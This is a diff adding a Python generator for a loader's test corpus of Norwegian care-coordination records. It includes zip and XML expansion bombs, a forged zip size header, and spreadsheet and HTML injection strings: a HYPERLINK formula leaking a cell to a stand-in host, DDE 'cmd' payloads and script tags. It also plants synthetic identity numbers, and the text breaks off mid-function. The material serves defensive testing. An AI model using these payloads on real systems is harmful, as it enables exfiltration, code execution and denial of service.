@@ -1,0 +1,841 @@
+#!/usr/bin/env python
+"""Write the loader corpus: small messy, broken and hostile snapshots, one outcome each.
+
+    python tests/corpus/make_corpus.py           # (re)write every corpus file
+    python tests/corpus/make_corpus.py --check   # exit 1 when a committed file differs
+
+Every file under ``tests/corpus/`` (except this script, ``expected.yaml`` and
+``time_hostile.py``) is written here, text and binary alike, so the corpus is reproducible:
+zip members carry a fixed timestamp and are written in a fixed order, and nothing
+random or time-dependent goes in (the deflate stream is zlib's, stable across the
+versions in use). ``expected.yaml`` gives each file's exact outcome and
+``tests/test_corpus.py`` checks it through ``ke-rules check FILE --as-of 2026-11-23``.
+
+Most valid files render one small snapshot, ``BASE``, in a different spelling
+(encodings, delimiters, bokmål names, Excel date cells, formulas, phantom used
+ranges ...): messy but valid input must read the same, so they all give BASE's five
+findings. The xlsx files are written from scratch (not with openpyxl) so that formula
+cells can carry a cached result, and so that dimensions, merges and far cells are
+exactly what a test needs. Old-format and encrypted workbooks are OLE2 compound files,
+written by a small CFB writer below (olefile reads them back).
+
+The identity numbers planted here are made-up numbers with valid check digits (born
+1 January 1990 and 15 May 1985, and a D-number); they must never appear in a report.
+"""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+import json
+import struct
+import sys
+import zipfile
+import zlib
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+from xml.sax.saxutils import escape
+
+HERE = Path(__file__).resolve().parent
+ROOT = HERE.parent.parent
+STAMP = (2026, 11, 23, 8, 0, 0)
+OWN_FILES = {"make_corpus.py", "expected.yaml", "time_hostile.py"}
+
+# --------------------------------------------------------------------------------------
+# planted identity numbers
+# --------------------------------------------------------------------------------------
+
+_K1 = (3, 7, 6, 1, 8, 9, 4, 5, 2)
+_K2 = (5, 4, 3, 2, 7, 6, 5, 4, 3, 2)
+
+
+def identity_number(ddmmyy: str, first_individual: int = 100) -> str:
+    """The first valid 11-digit number for a date, from an individual number on (classic check digits)."""
+    for individual in range(first_individual, 1000):
+        nine = [int(c) for c in f"{ddmmyy}{individual:03d}"]
+        k1 = (11 - sum(w * d for w, d in zip(_K1, nine, strict=True)) % 11) % 11
+        if k1 == 10:
+            continue
+        ten = [*nine, k1]
+        k2 = (11 - sum(w * d for w, d in zip(_K2, ten, strict=True)) % 11) % 11
+        if k2 == 10:
+            continue
+        return "".join(map(str, [*ten, k2]))
+    raise ValueError(ddmmyy)
+
+
+FNR_A = identity_number("010190")  # born 1 January 1990
+FNR_B = identity_number("150585", 400)  # born 15 May 1985
+DNR = identity_number("410190", 200)  # a D-number (day + 40)
+FNR_LEADING_ZERO = identity_number("050590", 300)  # born 5 May 1990: Excel drops the leading 0
+PLANTED = [FNR_A, FNR_B, DNR, FNR_LEADING_ZERO]
+
+# --------------------------------------------------------------------------------------
+# BASE: one small snapshot with five designed findings at D = 2026-11-23 (nasjonal)
+# --------------------------------------------------------------------------------------
+#   KE-CONSENT:S-1           S-1 has an active IP and no consent
+#   KE-CHILD-RELATIVE:S-1    S-1 has had a coordinator since 2024 and no mapping (a minor daughter: high)
+#   KE-REFERRAL-MISSING:S-1  S-1 has two long-running health services and no referral
+#   KE-INVITE-LEAD:M-1       M-1 (2026-09-10) was invited on 2026-09-01: 9 days < 14
+#   KE-MEET-FREQ:G-1         G-1 (since 2025-08-01) held one meeting in the window, two required
+# S-3 is closed before D (out of scope), so none of its rows give findings.
+
+BASE: dict[str, list[dict[str, Any]]] = {
+    "cases": [
+        {"case_id": "S-1", "municipality": "1112", "birth_date": "1980-05-01", "opened_on": "2024-01-10",
+         "closed_on": None, "wants_coordinator": True, "long_term_need": True, "ip_started_on": "2024-02-01",
+         "relatives_mapped_on": None},
+        {"case_id": "S-2", "municipality": "1112", "birth_date": "2015-03-03", "opened_on": "2025-06-01",
+         "closed_on": None, "wants_coordinator": True, "long_term_need": False, "ip_started_on": "2025-07-01",
+         "relatives_mapped_on": "2025-07-01"},
+        {"case_id": "S-3", "municipality": "1112", "birth_date": "1990-01-01", "opened_on": "2023-01-01",
+         "closed_on": "2024-01-01", "wants_coordinator": False, "long_term_need": False, "ip_started_on": None,
+         "relatives_mapped_on": None},
+    ],
+    "services": [
+        {"case_id": "S-1", "service": "hjemmesykepleie", "category": None, "provider": "Hjemmetjenesten sør",
+         "start_date": "2024-01-01", "end_date": None},
+        {"case_id": "S-1", "service": "fysioterapi", "category": "helse", "provider": "Fysioterapitjenesten",
+         "start_date": "2024-02-01", "end_date": None},
+        {"case_id": "S-2", "service": "avlastning", "category": "omsorg", "provider": "Åsen avlastning",
+         "start_date": "2025-07-01", "end_date": None},
+    ],
+    "coordinators": [
+        {"coordinator_id": "K-1", "name": "Ingrid Testdal", "unit": "Hjemmetjenesten", "trained_on": "2020-03-18",
+         "agreed_max_cases": None},
+        {"coordinator_id": "K-2", "name": "Per Demoberg", "unit": "Barne- og familietjenesten",
+         "trained_on": None, "agreed_max_cases": 3},
+    ],
+    "assignments": [
+        {"case_id": "S-1", "coordinator_id": "K-1", "role": "koordinator", "start_date": "2024-01-15",
+         "end_date": None},
+        {"case_id": "S-2", "coordinator_id": "K-2", "role": "koordinator", "start_date": "2025-06-10",
+         "end_date": None},
+    ],
+    "groups": [
+        {"group_id": "G-1", "case_id": "S-2", "established_on": "2025-08-01", "dissolved_on": None},
+    ],
+    "meetings": [
+        {"meeting_id": "M-1", "case_id": "S-2", "kind": "ansvarsgruppe", "meeting_date": "2026-09-10",
+         "status": "held", "invitation_sent_on": "2026-09-01", "invitation_has_subject": True,
+         "invitation_has_participants": True, "invitation_has_time_place": True, "invitation_has_agenda": True,
+         "minutes_sent_on": "2026-09-15", "next_meeting_on": "2026-12-10"},
+    ],
+    "consents": [
+        {"case_id": "S-2", "scope": "alle", "given_on": "2025-06-15", "withdrawn_on": None, "form": "skriftlig"},
+    ],
+    "relatives": [
+        {"case_id": "S-1", "relation": "barn", "birth_date": "2012-04-04"},
+    ],
+    "referrals": [
+        {"case_id": "S-2", "received_on": "2025-05-20", "source": "fastlege"},
+    ],
+}
+
+NB_TABLE = {"cases": "saker", "services": "tjenester", "coordinators": "koordinatorer",
+            "assignments": "oppnevninger", "groups": "ansvarsgrupper", "meetings": "møter",
+            "consents": "samtykker", "relatives": "pårørende", "referrals": "meldinger"}
+NB_COLUMN = {"case_id": "sak_id", "birth_date": "fødselsdato", "opened_on": "åpnet", "closed_on": "avsluttet",
+             "meeting_id": "møte_id", "meeting_date": "møtedato", "municipality": "kommunenummer"}
+DATE_COLUMNS = {"birth_date", "opened_on", "closed_on", "ip_started_on", "relatives_mapped_on", "start_date",
+                "end_date", "trained_on", "established_on", "dissolved_on", "meeting_date", "invitation_sent_on",
+                "minutes_sent_on", "next_meeting_on", "given_on", "withdrawn_on", "received_on"}
+
+
+def columns_of(table: str) -> list[str]:
+    return list(BASE[table][0])
+
+
+def text_of(value: Any, *, yes: str = "ja", no: str = "nei", date_style: str = "iso") -> str:
+    """A BASE value as the text a CSV would hold."""
+    if value is None:
+        return ""
+    if value is True:
+        return yes
+    if value is False:
+        return no
+    if isinstance(value, str) and date_style == "no" and len(value) == 10 and value[4] == "-":
+        y, m, d = value.split("-")
+        return f"{d}.{m}.{y}"
+    return str(value)
+
+
+def base_rows(table: str, *, nb: bool = False, **style: Any) -> list[list[str]]:
+    cols = columns_of(table)
+    header = [NB_COLUMN.get(c, c) if nb else c for c in cols]
+    return [header] + [[text_of(r[c], **style) for c in cols] for r in BASE[table]]
+
+
+def as_date(text: str | None) -> dt.date | None:
+    return dt.date.fromisoformat(text) if text else None
+
+
+# --------------------------------------------------------------------------------------
+# csv and json
+# --------------------------------------------------------------------------------------
+
+
+def csv_bytes(rows: list[list[str]], *, delimiter: str = ",", encoding: str = "utf-8", bom: bool = False) -> bytes:
+    buf = io.StringIO()
+    csv.writer(buf, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
+    return (b"\xef\xbb\xbf" if bom else b"") + buf.getvalue().encode(encoding)
+
+
+def json_bytes(doc: Any) -> bytes:
+    return json.dumps(doc, ensure_ascii=False, indent=1).encode("utf-8")
+
+
+def base_csv_folder(folder: str, *, nb: bool = False, **kw: Any) -> dict[str, bytes]:
+    out = {}
+    for table in BASE:
+        stem = NB_TABLE[table] if nb else table
+        out[f"{folder}/{stem}.csv"] = csv_bytes(base_rows(table, nb=nb), **kw)
+    return out
+
+
+# --------------------------------------------------------------------------------------
+# xlsx, written from parts
+# --------------------------------------------------------------------------------------
+
+MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+PKG_REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
+XML_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+EPOCH = dt.date(1899, 12, 30)
+STYLE_DATE, STYLE_DATETIME = 1, 2
+
+
+@dataclass
+class Inline:
+    """A text cell written inline (t="inlineStr") rather than as a shared string."""
+
+    text: str
+
+
+@dataclass
+class F:
+    """A formula cell; ``cached`` is its stored result (None: no result stored)."""
+
+    formula: str
+    cached: Any = None
+    kind: str | None = None  # t attribute: str, b, e; None for a number
+    style: int | None = None
+
+
+@dataclass
+class Raw:
+    """A cell written verbatim (``{ref}`` is replaced by its reference)."""
+
+    xml: str
+
+
+@dataclass
+class Sheet:
+    name: str
+    rows: list[list[Any]]
+    merges: list[str] = field(default_factory=list)
+    dimension: str | None = None  # the recorded <dimension ref>; None: computed
+    far: list[tuple[str, Any]] = field(default_factory=list)  # (cell reference, cell) after the rows
+    prolog: str = ""  # written between the XML declaration and <worksheet>
+
+
+def col_letters(n: int) -> str:
+    out = ""
+    while n:
+        n, rem = divmod(n - 1, 26)
+        out = chr(65 + rem) + out
+    return out
+
+
+def serial(value: dt.date) -> str:
+    if isinstance(value, dt.datetime):
+        delta = value - dt.datetime(1899, 12, 30)
+        return repr(delta.days + delta.seconds / 86400)
+    return str((value - EPOCH).days)
+
+
+class SharedStrings:
+    def __init__(self) -> None:
+        self.index: dict[str, int] = {}
+        self.count = 0
+
+    def add(self, text: str) -> int:
+        self.count += 1
+        return self.index.setdefault(text, len(self.index))
+
+    def xml(self, prolog: str = "", entity_text: str | None = None) -> str:
+        items = "".join(f'<si><t xml:space="preserve">{escape(t)}</t></si>' for t in self.index)
+        if entity_text is not None:
+            items += f"<si><t>{entity_text}</t></si>"
+        n = len(self.index) + (entity_text is not None)
+        return f'{XML_HEAD}{prolog}<sst xmlns="{MAIN_NS}" count="{self.count}" uniqueCount="{n}">{items}</sst>'
+
+
+def cell_xml(ref: str, value: Any, sst: SharedStrings | None) -> str:
+    if value is None:
+        return ""
+    if isinstance(value, Raw):
+        return value.xml.replace("{ref}", ref)
+    if isinstance(value, Inline):
+        return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escape(value.text)}</t></is></c>'
+    if isinstance(value, F):
+        t = f' t="{value.kind}"' if value.kind else ""
+        s = f' s="{value.style}"' if value.style is not None else ""
+        cached = "" if value.cached is None else escape(str(value.cached))
+        return f'<c r="{ref}"{s}{t}><f>{escape(value.formula)}</f><v>{cached}</v></c>'
+    if isinstance(value, bool):
+        return f'<c r="{ref}" t="b"><v>{int(value)}</v></c>'
+    if isinstance(value, dt.datetime):
+        return f'<c r="{ref}" s="{STYLE_DATETIME}"><v>{serial(value)}</v></c>'
+    if isinstance(value, dt.date):
+        return f'<c r="{ref}" s="{STYLE_DATE}"><v>{serial(value)}</v></c>'
+    if isinstance(value, int | float):
+        return f'<c r="{ref}"><v>{value!r}</v></c>'
+    if sst is None:
+        return cell_xml(ref, Inline(str(value)), None)
+    return f'<c r="{ref}" t="s"><v>{sst.add(str(value))}</v></c>'
+
+
+def sheet_xml(sheet: Sheet, sst: SharedStrings | None) -> str:
+    rows = []
+    width = max((len(r) for r in sheet.rows), default=1)
+    for i, row in enumerate(sheet.rows, start=1):
+        cells = "".join(cell_xml(f"{col_letters(j)}{i}", v, sst) for j, v in enumerate(row, start=1))
+        if cells:
+            rows.append(f'<row r="{i}">{cells}</row>')
+    for ref, value in sheet.far:
+        row = "".join(ch for ch in ref if ch.isdigit())
+        rows.append(f'<row r="{row}">{cell_xml(ref, value, sst)}</row>')
+    dimension = sheet.dimension or f"A1:{col_letters(width)}{max(len(sheet.rows), 1)}"
+    merges = ""
+    if sheet.merges:
+        merges = f'<mergeCells count="{len(sheet.merges)}">' + "".join(
+            f'<mergeCell ref="{m}"/>' for m in sheet.merges) + "</mergeCells>"
+    return (f'{XML_HEAD}{sheet.prolog}<worksheet xmlns="{MAIN_NS}" xmlns:r="{REL_NS}"><dimension ref="{dimension}"/>'
+            f'<sheetData>{"".join(rows)}</sheetData>{merges}</worksheet>')
+
+
+STYLES = (f'{XML_HEAD}<styleSheet xmlns="{MAIN_NS}"><fonts count="1"><font><sz val="11"/><name val="Calibri"/>'
+          '</font></fonts><fills count="1"><fill><patternFill patternType="none"/></fill></fills>'
+          '<borders count="1"><border/></borders><cellStyleXfs count="1"><xf numFmtId="0"/></cellStyleXfs>'
+          '<cellXfs count="3"><xf numFmtId="0" xfId="0"/><xf numFmtId="14" xfId="0" applyNumberFormat="1"/>'
+          '<xf numFmtId="22" xfId="0" applyNumberFormat="1"/></cellXfs></styleSheet>')
+
+
+def zip_bytes(members: list[tuple[str, bytes]], *, level: int = 6) -> bytes:
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as z:
+        for name, body in members:
+            info = zipfile.ZipInfo(name, date_time=STAMP)
+            info.compress_type = zipfile.ZIP_DEFLATED
+            info.external_attr = 0o600 << 16
+            z.writestr(info, body, compresslevel=level)
+    return buf.getvalue()
+
+
+def xlsx_parts(sheets: list[Sheet], *, shared: bool = True, sst_prolog: str = "",
+               sst_entity: str | None = None) -> list[tuple[str, bytes]]:
+    sst = SharedStrings() if shared else None
+    sheet_parts = [(f"xl/worksheets/sheet{i}.xml", sheet_xml(s, sst).encode("utf-8"))
+                   for i, s in enumerate(sheets, start=1)]
+    overrides = "".join(
+        f'<Override PartName="/{p}" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.'
+        f'worksheet+xml"/>' for p, _ in sheet_parts)
+    types = (f'{XML_HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+             '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
+             '<Default Extension="xml" ContentType="application/xml"/>'
+             '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
+             'spreadsheetml.sheet.main+xml"/>'
+             '<Override PartName="/xl/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.'
+             'spreadsheetml.styles+xml"/>'
+             + ('<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
+                'officedocument.spreadsheetml.sharedStrings+xml"/>' if sst else "")
+             + overrides + "</Types>")
+    root_rels = (f'{XML_HEAD}<Relationships xmlns="{PKG_REL_NS}"><Relationship Id="rId1" '
+                 f'Type="{REL_NS}/officeDocument" Target="xl/workbook.xml"/></Relationships>')
+    sheet_list = "".join(f'<sheet name="{escape(s.name)}" sheetId="{i}" r:id="rId{i}"/>'
+                         for i, s in enumerate(sheets, start=1))
+    workbook = f'{XML_HEAD}<workbook xmlns="{MAIN_NS}" xmlns:r="{REL_NS}"><sheets>{sheet_list}</sheets></workbook>'
+    rels = "".join(f'<Relationship Id="rId{i}" Type="{REL_NS}/worksheet" Target="worksheets/sheet{i}.xml"/>'
+                   for i in range(1, len(sheets) + 1))
+    n = len(sheets)
+    rels += f'<Relationship Id="rId{n + 1}" Type="{REL_NS}/styles" Target="styles.xml"/>'
+    if sst:
+        rels += f'<Relationship Id="rId{n + 2}" Type="{REL_NS}/sharedStrings" Target="sharedStrings.xml"/>'
+    workbook_rels = f'{XML_HEAD}<Relationships xmlns="{PKG_REL_NS}">{rels}</Relationships>'
+    parts = [
+        ("[Content_Types].xml", types.encode()),
+        ("_rels/.rels", root_rels.encode()),
+        ("xl/workbook.xml", workbook.encode()),
+        ("xl/_rels/workbook.xml.rels", workbook_rels.encode()),
+        ("xl/styles.xml", STYLES.encode()),
+        *sheet_parts,
+    ]
+    if sst:
+        parts.append(("xl/sharedStrings.xml", sst.xml(sst_prolog, sst_entity).encode("utf-8")))
+    return parts
+
+
+def xlsx_bytes(sheets: list[Sheet], **kw: Any) -> bytes:
+    return zip_bytes(xlsx_parts(sheets, **kw))
+
+
+def base_sheet(table: str, *, nb: bool = False, dates: str = "cells", **kw: Any) -> Sheet:
+    """BASE's table as a sheet: dates as Excel date cells, booleans as boolean cells."""
+    cols = columns_of(table)
+    header = [NB_COLUMN.get(c, c) if nb else c for c in cols]
+    rows: list[list[Any]] = [header]
+    for r in BASE[table]:
+        row = []
+        for c in cols:
+            v = r[c]
+            if c in DATE_COLUMNS and v is not None and dates == "cells":
+                v = as_date(v)
+            row.append(v)
+        rows.append(row)
+    return Sheet(NB_TABLE[table] if nb else table, rows, **kw)
+
+
+def base_sheets(**kw: Any) -> list[Sheet]:
+    return [base_sheet(t, **kw) for t in BASE]
+
+
+# --------------------------------------------------------------------------------------
+# OLE2 compound files (old .xls, encrypted OOXML)
+# --------------------------------------------------------------------------------------
+
+FREESECT, ENDOFCHAIN, FATSECT, NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
+
+
+def cfb_bytes(streams: list[tuple[str, bytes]]) -> bytes:
+    """A version-3 compound file (512-byte sectors) holding ``streams`` in the root storage.
+
+    Streams are padded to 4096 bytes, the mini-stream cutoff, so every stream lives in
+    ordinary sectors and no mini FAT is needed. One FAT sector (up to 128 sectors).
+    """
+    streams = [(n, body + b"\0" * max(0, 4096 - len(body))) for n, body in streams]
+    sector = 512
+    dir_entries = 1 + len(streams)
+    dir_sectors = -(-dir_entries * 128 // sector)
+    data_sectors = [-(-len(body) // sector) for _, body in streams]
+    total = 1 + dir_sectors + sum(data_sectors)
+    assert total <= 128
+    fat = [FREESECT] * 128
+    fat[0] = FATSECT
+    for i in range(dir_sectors):
+        fat[1 + i] = 2 + i if i + 1 < dir_sectors else ENDOFCHAIN
+    starts = []
+    nxt = 1 + dir_sectors
+    for count in data_sectors:
+        starts.append(nxt)
+        for k in range(count):
+            fat[nxt + k] = nxt + k + 1 if k + 1 < count else ENDOFCHAIN
+        nxt += count
+
+    def entry(name: str, kind: int, child: int, right: int, start: int, size: int) -> bytes:
+        raw = (name + "\0").encode("utf-16-le")
+        return (raw.ljust(64, b"\0") + struct.pack("<HBB", len(raw), kind, 1)
+                + struct.pack("<III", NOSTREAM, right, child) + b"\0" * 16 + struct.pack("<I", 0)
+                + b"\0" * 16 + struct.pack("<IQ", start, size))
+
+    entries = [entry("Root Entry", 5, 1 if streams else NOSTREAM, NOSTREAM, ENDOFCHAIN, 0)]
+    for i, ((name, body), start) in enumerate(zip(streams, starts, strict=True), start=1):
+        entries.append(entry(name, 2, NOSTREAM, i + 1 if i < len(streams) else NOSTREAM, start, len(body)))
+    directory = b"".join(entries).ljust(dir_sectors * sector, b"\0")
+    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
+              + b"\0" * 6 + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, ENDOFCHAIN, 0, ENDOFCHAIN, 0)
+              + struct.pack("<I", 0) + struct.pack("<I", FREESECT) * 108)
+    assert len(header) == 512
+    body = b"".join(b.ljust(n * sector, b"\0") for (_, b), n in zip(streams, data_sectors, strict=True))
+    return header + struct.pack("<128I", *fat) + directory + body
+
+
+def _pseudo_random(n: int, seed: int = 20261123) -> bytes:
+    out = bytearray()
+    x = seed
+    while len(out) < n:
+        x = (x * 6364136223846793005 + 1442695040888963407) % 2**64
+        out += (x >> 33).to_bytes(4, "little")
+    return bytes(out[:n])
+
+
+def xls_bytes() -> bytes:
+    # a BIFF8 BOF record (type 0x0809, workbook globals) and an EOF record, as an old .xls starts and ends
+    bof = struct.pack("<HHHHHHII", 0x0809, 16, 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 0x06)
+    return cfb_bytes([("Workbook", bof + struct.pack("<HH", 0x000A, 0))])
+
+
+def encrypted_xlsx_bytes() -> bytes:
+    info = (struct.pack("<HHI", 4, 4, 0x40) + b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
+            b'<encryption xmlns="http://schemas.microsoft.com/office/2006/encryption"><keyData saltSize="16" '
+            b'blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" '
+            b'hashAlgorithm="SHA512" saltValue="AAAAAAAAAAAAAAAAAAAAAA=="/></encryption>')
+    package = struct.pack("<Q", 6000) + _pseudo_random(6000)
+    return cfb_bytes([("EncryptionInfo", info), ("EncryptedPackage", package)])
+
+
+# --------------------------------------------------------------------------------------
+# hostile zips
+# --------------------------------------------------------------------------------------
+
+LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol">'
+          + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
+                    for i in range(1, 10)) + "]>")
+
+
+def bomb_xlsx(megabytes: int) -> bytes:
+    """A workbook whose one sheet expands to ``megabytes`` MB (a valid sheet padded with spaces)."""
+    head = f'{XML_HEAD}<worksheet xmlns="{MAIN_NS}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>case_id'
+    tail = "</t></is></c></row></sheetData></worksheet>"
+    parts = xlsx_parts([Sheet("cases", [["case_id"], ["S-1"]])], shared=False)
+    body = head.encode() + b" " * (megabytes * 1_000_000) + tail.encode()
+    parts = [(n, body if n == "xl/worksheets/sheet1.xml" else b) for n, b in parts]
+    return zip_bytes(parts, level=9)
+
+
+def lying_size_xlsx() -> bytes:
+    """A workbook whose sheet member declares 1,000 bytes but expands to 10 MB (headers patched)."""
+    sheet = f'{XML_HEAD}<worksheet xmlns="{MAIN_NS}"><sheetData>'.encode() + b" " * 10_000_000 + \
+        b"</sheetData></worksheet>"
+    parts = xlsx_parts([Sheet("cases", [["case_id"], ["S-1"]])], shared=False)
+    parts = [(n, sheet if n == "xl/worksheets/sheet1.xml" else b) for n, b in parts]
+    data = bytearray(zip_bytes(parts, level=9))
+    zf = zipfile.ZipFile(io.BytesIO(bytes(data)))
+    info = zf.getinfo("xl/worksheets/sheet1.xml")
+    # local header: uncompressed size at offset 22; central directory entry: at offset 24
+    struct.pack_into("<I", data, info.header_offset + 22, 1000)
+    cd = data.find(b"PK\x01\x02")
+    while cd >= 0:
+        name_len = struct.unpack_from("<H", data, cd + 28)[0]
+        if data[cd + 46:cd + 46 + name_len] == b"xl/worksheets/sheet1.xml":
+            struct.pack_into("<I", data, cd + 24, 1000)
+            break
+        cd = data.find(b"PK\x01\x02", cd + 4)
+    return bytes(data)
+
+
+def zeros_bomb(path: Path, gigabytes: int = 1) -> None:
+    """A valid workbook whose sheet1.xml is `gigabytes` GB of zero bytes after a sheet's start.
+
+    Compressing a gigabyte takes seconds, so one 16 MiB block is compressed after a full flush
+    (it then depends on nothing before it) and repeated: the result is a correct deflate stream
+    with a correct CRC, written as a hand-made zip entry.
+    """
+    block = 1 << 24
+    count = gigabytes * 64
+    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
+    head = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
+    first = comp.compress(head) + comp.flush(zlib.Z_FULL_FLUSH)
+    body = comp.compress(b"\0" * block) + comp.flush(zlib.Z_FULL_FLUSH)
+    last = comp.flush(zlib.Z_FINISH)
+    crc = zlib.crc32(head)
+    zeros = b"\0" * block
+    for _ in range(count):
+        crc = zlib.crc32(zeros, crc)
+    size = len(head) + block * count
+    packed = len(first) + len(body) * count + len(last)
+    others = [(n, b) for n, b in xlsx_parts([Sheet("cases", [["case_id"], ["S-1"]])], shared=False)
+              if n != "xl/worksheets/sheet1.xml"]
+    name = b"xl/worksheets/sheet1.xml"
+    with open(path, "wb") as fh:
+        buf = io.BytesIO()
+        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
+            for n, b in others:
+                z.writestr(n, b)
+        small = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
+        cd_start = buf.getvalue().find(b"PK\x01\x02")
+        fh.write(buf.getvalue()[:cd_start])
+        offset = cd_start
+        fh.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, packed, size, len(name), 0) + name)
+        fh.write(first)
+        for _ in range(count):
+            fh.write(body)
+        fh.write(last)
+        cd_at = fh.tell()
+        cd = buf.getvalue()[cd_start: buf.getvalue().find(b"PK\x05\x06")]
+        cd += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, packed, size, len(name),
+                          0, 0, 0, 0, 0, offset) + name
+        fh.write(cd)
+        n = len(small.infolist()) + 1
+        fh.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, len(cd), cd_at, 0))
+
+
+# --------------------------------------------------------------------------------------
+# the corpus
+# --------------------------------------------------------------------------------------
+
+
+def messy_csv() -> dict[str, bytes]:
+    """BASE by hand, as a messy export: trailing spaces, empty rows, extra and ragged columns,
+    every date spelling in one column, yes/no spellings, quoted fields, a non-breaking space."""
+    cases = (
+        "sak_id ; Fødselsdato ;ÅPNET;avsluttet;ønsker_koordinator;langvarig_behov;ip_startet;"
+        "pårørende_kartlagt;kommunenummer;Merknad\r\n"
+        "S-1 ;1.5.1980;2024-1-10;;J;x;01.02.2024;;1112;\"ringt; venter\"\r\n"
+        ";;;;;;;;;\r\n"
+        "\r\n"
+        "\u00a0S-2\u00a0;2015-03-03;01.06.2025;;Ja ;Nei;2025-07-01;1.7.2025;1112;\r\n"
+        "S-3;01.01.1990;2023-01-01T00:00:00;2024-01-01 00:00;nei;false;;;1112;;ekstra celle\r\n"
+    )
+    services = (
+        "case_id,service,category,provider,start_date,end_date\r\n"
+        "S-1,Hjemmesykepleie ,,\"Hjemmetjenesten sør\",2024-01-01,\r\n"
+        ",,,,,\r\n"
+        "S-1, fysioterapi,HELSE,Fysioterapitjenesten,01.02.2024,\r\n"
+        "S-2,avlastning,omsorg,Åsen avlastning,1.7.2025,\r\n"
+    )
+    other = {t: csv_bytes(base_rows(t, date_style="no"), delimiter=";", encoding="cp1252")
+             for t in BASE if t not in ("cases", "services")}
+    out = {"csv_messy/saker.csv": cases.encode("cp1252"), "csv_messy/tjenester.csv": services.encode("cp1252")}
+    out.update({f"csv_messy/{t}.csv": b for t, b in other.items()})
+    return out
+
+
+def mixed_good_bad() -> dict[str, list[dict[str, Any]]]:
+    """Good rows with bad ones between them: each bad row names its problem."""
+    doc = json.loads(json.dumps(BASE))
+    doc["cases"] += [
+        {"case_id": "S-4", "birth_date": "31.02.2001", "opened_on": "2025-01-01"},  # impossible: warning
+        {"case_id": "S-5", "birth_date": "01.03.25", "opened_on": "03/01/2025"},  # ambiguous: two warnings
+        {"case_id": "S-1", "birth_date": "1980-05-01"},  # duplicate id: set aside
+        {"case_id": "", "birth_date": "2000-01-01"},  # required empty: set aside
+        {"case_id": "S-6", "opened_on": "2025-05-05", "closed_on": "2025-01-01"},  # end before start
+        {"case_id": "S-7", "wants_coordinator": "kanskje", "opened_on": 45000},  # two warnings
+    ]
+    doc["services"] += [
+        {"case_id": "S-99", "service": "fysioterapi", "start_date": "2025-01-01"},  # unknown case
+        {"case_id": "S-6", "service": "fysioterapi", "start_date": "2025-01-01"},  # case set aside
+        {"case_id": "S-2", "service": "Hørselskontakt", "start_date": "2025-01-01"},  # unknown service: warning
+        {"case_id": "S-2", "service": "ergoterapi", "start_date": "i fjor"},  # not a date: set aside
+    ]
+    doc["assignments"].append({"case_id": "S-2", "coordinator_id": "K-9", "start_date": "2025-01-01"})
+    doc["meetings"].append({"meeting_id": "M-2", "case_id": "S-2", "meeting_date": "2027-01-10", "status": "avholdt",
+                            "kind": "ansvarsgruppemøte"})  # held in the future: warning
+    doc["consents"].append({"case_id": "S-2", "scope": "alt", "given_on": "2025-01-01"})  # not in list: set aside
+    doc["relatives"].append({"case_id": "S-2", "relation": "nabo"})  # unknown relation: set aside
+    return doc
+
+
+def planted_rows() -> dict[str, list[list[Any]]]:
+    """Identity numbers where a KE might put them: as a case id, in a date column, in a name, as a header."""
+    cases = [["case_id", "birth_date", "opened_on", "ip_started_on", "merknad", FNR_B],
+             [FNR_A, "1990-01-01", "2024-01-01", "2024-02-01", f"fnr {FNR_A}", ""],
+             ["S-2", FNR_B, "2024-01-01", "", f"D-nummer {DNR[:6]} {DNR[6:]}", "x"]]
+    coordinators = [["coordinator_id", "name"], ["K-1", f"Ola Nordmann {DNR}"]]
+    assignments = [["case_id", "coordinator_id", "start_date"], [FNR_A, "K-1", "2024-01-15"]]
+    return {"cases": cases, "coordinators": coordinators, "assignments": assignments}
+
+
+INJECTIONS = ['=HYPERLINK("http://example.invalid/x?d="&A1,"klikk")', "<script>alert('x')</script>",
+              "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+              "\t=1+1", '"><img src=x onerror=alert(1)>']
+
+
+def injection_rows() -> dict[str, list[list[Any]]]:
+    cases = [["case_id", "opened_on", "ip_started_on", "merknad"],
+             ["S-1", "2024-01-01", "2024-02-01", INJECTIONS[0]],
+             ["S-2", INJECTIONS[0], "", INJECTIONS[1]],  # a formula in a date column: warning, value kept in report
